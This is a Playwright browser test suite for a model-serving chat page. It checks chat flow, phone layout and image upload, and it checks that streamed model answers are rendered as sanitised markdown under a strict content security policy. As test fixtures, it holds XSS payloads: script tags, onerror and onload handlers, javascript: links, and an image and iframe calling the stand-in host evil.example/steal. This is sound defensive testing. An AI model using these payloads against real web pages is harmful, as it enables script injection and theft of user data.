"""The page at / in a real browser: it chats, shows the engine's steps, and fits a phone."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from tests.engine.test_images import engine as engine_of_images
from tests.models.vision.reference import PHOTO
from tests.serving.tiny_server import MODEL, engine, serving, tokenizer

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
SCREENSHOTS = os.environ.get("FASTGEN_SCREENSHOTS")  # folder for screenshots, to inspect them by eye
SIZES = {"desktop": (1280, 800), "phone": (390, 844)}
# Model output with attacks that must have no effect. No attribute and no request may contain "steal".
ANSWER = """# A title

Some **bold**, *slanted* and ~~struck~~ words, `code`, and a [link](https://example.org/a?b=1&c=2).
A new line without a blank one.

```python
def f(x: list[int]) -> bool:
    return x < 1 and "<b>" not in {x}  # a line that is much too long for a phone: ******************************************
```

1. one
2. two
   - [x] done
   - [ ] open

| a | b |
|---|--:|
| 1 | <i>2</i> |

> said

<script>window.hacked = "steal"</script><img src=x onerror="window.hacked = 'steal'">
<div style="position:fixed">text that looks like HTML & is shown</div> <think>hm</think>

![a picture](https://evil.example/steal?q=secret) [run](javascript:window.hacked='steal') [data](data:text/html,steal)
<iframe src="//evil.example/steal"></iframe> [x]( "onclick=window.hacked='steal'") **<svg onload=window.hacked=1>**

```html"onclick="window.hacked='steal'
<a href="javascript:window.hacked=1">x</a>
```
"""


@pytest.fixture(scope="module")
def browser():
    api = pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    path = next(filter(None, map(shutil.which, BROWSERS)), None)
    if path is None:
        pytest.skip(f"none of these browsers is installed: {', '.join(BROWSERS)}")
    with api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.mark.parametrize("size", SIZES)
def test_it_chats_and_shows_the_steps_of_the_engine(browser, url, size):
    width, height = SIZES[size]
    from playwright.sync_api import expect

    page = browser.new_page(viewport={"width": width, "height": height})
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.goto(url)
    page.get_by_text("ready").wait_for()
    assert page.locator("h1").inner_text() == MODEL
    page.get_by_label("Message").fill("Hi")
    page.get_by_label("Message").press("Enter")
    expect(page.locator(".meta")).to_contain_text("tokens")
    expect(page.locator("#send")).to_have_text("Send")
    ids = tokenizer().encode("u:Hi\na:", add_special_tokens=False)
    room = engine().config.max_context_len - len(ids)
    shown = page.locator(".assistant").inner_text()
    assert 0 < len(shown) <= room  # a token is a character
    expect(page.locator("#step")).to_contain_text("P99")
    painted = page.evaluate("""() => { const c = document.querySelector('#steps');
        return c.getContext('2d').getImageData(0, 0, c.width, c.height).data.some(x => x > 0); }""")
    assert painted
    assert page.evaluate("document.documentElement.scrollWidth") <= width, "it scrolls sideways"
    assert errors == []
    page.get_by_text("8 prompts at once").click()  # most are too long for this model, and the page says so
    expect(page.locator("#crowded")).to_contain_text("of 8 answered", timeout=60_000)
    assert "max_context_len" in page.locator("#crowded").inner_text()
    page.locator("#steps").hover(position={"x": 1, "y": 60})
    expect(page.locator("#detail")).to_have_text(re.compile("^step "))
    if SCREENSHOTS:
        page.screenshot(path=Path(SCREENSHOTS) / f"{size}.png", full_page=True)
    page.close()
    assert all("400 (Bad Request)" in error for error in errors)


@pytest.mark.slow
def test_a_picture_is_attached_if_the_model_reads_any_and_is_part_of_the_request(browser, url):
    from playwright.sync_api import expect

    page = browser.new_page()
    errors, sent = [], []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
    page.on("request", lambda request: sent.append(request.post_data_json) if request.method == "POST" else None)
    page.goto(url)  # of a model of text
    page.get_by_text("ready").wait_for()
    expect(page.locator("#attach")).to_be_hidden()
    with serving(engine_of_images()) as of_images:
        page.goto(of_images)
        page.get_by_text("ready").wait_for()
        expect(page.locator("#attach")).to_be_visible()
        page.locator("#file").set_input_files(PHOTO)
        expect(page.locator("#attach")).to_have_text("1")
        page.get_by_label("Message").fill("What is it?")
        page.get_by_label("Message").press("Enter")
        expect(page.locator(".meta")).to_contain_text("tokens", timeout=60_000)
        assert page.locator(".user img").evaluate("image => [image.naturalWidth, image.naturalHeight]") == [90, 70]
        expect(page.locator("#attach")).to_have_text("＋")
        page.goto("about:blank")
    page.close()
    image, text = sent[-1]["messages"][0]["content"]
    assert image["image_url"]["url"].startswith("data:image/png;base64,")
    assert text == {"type": "text", "text": "What is it?"}
    assert errors == []


def answering(page, url: str, text: str, *, first: str = "0") -> None:
    """Opens the page, runs `first` in it, and has the server answer `text` in small pieces."""
    pieces = [text[i : i + 7] for i in range(0, len(text), 7)]
    events = [{"choices": [{"delta": {"content": piece}}]} for piece in pieces]
    events.append({"choices": [], "usage": {"prompt_tokens": 1, "completion_tokens": len(pieces)}})
    body = "".join(f"data: {json.dumps(event)}\n\n" for event in events) + "data: [DONE]\n\n"
    page.route("**/v1/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    page.goto(url)
    page.get_by_text("ready").wait_for()
    page.evaluate(first)
    page.get_by_label("Message").fill("Hi")
    page.get_by_label("Message").press("Enter")
    page.get_by_text("tokens · first after").wait_for()


@pytest.mark.parametrize("size", SIZES)
def test_an_answer_is_shown_as_markdown_and_cannot_run_or_load_anything(browser, url, size):
    width, height = SIZES[size]
    page = browser.new_page(viewport={"width": width, "height": height})
    errors, requested = [], []
    page.on("console", lambda message: errors.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: requested.append(request.url))
    answering(page, url, ANSWER)
    box = page.locator(".assistant")
    want = {"h1": 1, "strong": 2, "em": 1, "del": 1, "pre": 2, "ol > li": 2, "ul > li": 2, "td": 2, "br": 3}
    assert {tag: box.locator(tag).count() for tag in want} == want
    assert 'return x < 1 and "<b>" not in {x}' in box.locator("pre").first.inner_text()
    assert box.locator("a").first.get_attribute("href") == "https://example.org/a?b=1&c=2"
    assert box.locator("a").first.get_attribute("rel") == "noopener noreferrer"
    text = box.inner_text()
    for shown in (
        '<script>window.hacked = "steal"</script>',
        "<img src=x",
        "<i>2</i>",
        "<think>hm</think>",
        "☑ done",
        "☐ open",
        'style="position:fixed"',
    ):
        assert shown in text
    allowed = page.evaluate("""() => [...document.querySelectorAll(".assistant *")].flatMap(
        e => [e.tagName, ...[...e.attributes].map(a => a.name + "=" + a.value)])""")
    assert not {"SCRIPT", "IMG", "IFRAME", "SVG", "DIV", "THINK"} & set(allowed)
    attributes = {entry.partition("=")[0] for entry in allowed if "=" in entry}
    assert attributes <= {"href", "title", "align", "start", "target", "rel"}
    links = [entry for entry in allowed if entry.startswith("href=")]
    assert all(link.startswith("href=https://") for link in links)
    assert page.evaluate("window.hacked") is None
    assert all(request.startswith((url, "data:image/svg+xml")) for request in requested), "the page requested something else"
    assert errors == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width, "it scrolls sideways"
    if SCREENSHOTS:
        page.screenshot(path=Path(SCREENSHOTS) / f"markdown-{size}.png")
    page.close()


def test_a_long_answer_is_not_rendered_again_for_each_piece(browser, url):
    page = browser.new_page()
    answering(
        page,
        url,
        "Some words, and *more* of them.\n\n" * 1000,
        first="""() => { window.drawn = 0; const sanitize = DOMPurify.sanitize;
                  DOMPurify.sanitize = (...given) => { window.drawn++; return sanitize(...given); }; }""",
    )
    assert page.locator(".assistant p").count() == 1000
    assert 1 <= page.evaluate("drawn") < 200  # pieces: 4715
    page.close()


def test_markdown_that_is_nested_too_deeply_is_shown_as_text(browser, url):
    page, text = browser.new_page(), ">" * 30_000
    answering(page, url, text)
    assert page.locator(".assistant").inner_text() == text
    page.close()


def test_the_content_security_policy_blocks_what_the_sanitizer_would_miss(browser, url):
    page = browser.new_page()
    page.goto(url)
    policy = page.request.get(url).headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    refused = page.evaluate("""() => new Promise(done => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", event => {
            seen.push(event.effectiveDirective);
            if (seen.length === 3) done(seen.sort());
        });
        const box = document.createElement("div");
        document.body.append(box);
        box.innerHTML = "<img src='https://evil.example/x' onerror='window.hacked = 1'><b style='color:red'>x</b>";
        const script = document.createElement("script");
        script.textContent = "window.hacked = 1";
        box.append(script);
    })""")
    assert refused == ["img-src", "script-src-elem", "style-src-attr"]
    assert page.evaluate("window.hacked") is None
    page.close()


def test_on_a_phone_the_message_box_stays_in_view_with_a_long_header(browser, url):
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.goto(url)
    page.get_by_text("ready").wait_for()
    served = {}
    page.route("**/stats*", lambda route: route.fulfill(json={**route.fetch().json(), **served}))
    for name in ("short", "a-model-with-a-very-long-name-" * 6):
        served["model"] = name
        page.get_by_role("heading", name=name, exact=True).wait_for()
        button = page.locator("#send").bounding_box()
        assert button["y"] + button["height"] <= 844
        assert page.locator("header").bounding_box()["y"] == 0
    assert page.locator("header").bounding_box()["height"] > 80, "the header does not wrap, which this test requires"
    if SCREENSHOTS:
        page.screenshot(path=Path(SCREENSHOTS) / "phone-long-header.png")
    page.unroute_all(behavior="wait")
    page.close()
